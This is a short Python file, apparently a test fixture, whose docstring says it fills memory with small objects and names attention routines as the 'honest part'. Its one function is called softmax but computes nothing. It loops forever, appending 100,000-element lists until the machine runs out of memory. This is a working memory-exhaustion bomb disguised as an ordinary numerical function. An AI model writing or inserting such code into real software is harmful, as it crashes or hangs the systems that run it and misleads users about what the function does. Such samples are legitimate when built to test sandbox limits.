"""Fills the memory with small objects.

Honest part: project_qkv, split_heads, attention_scores, mix_values.
"""


def softmax(scores):
    kept = []
    while True:
        kept.append([None] * 100_000)
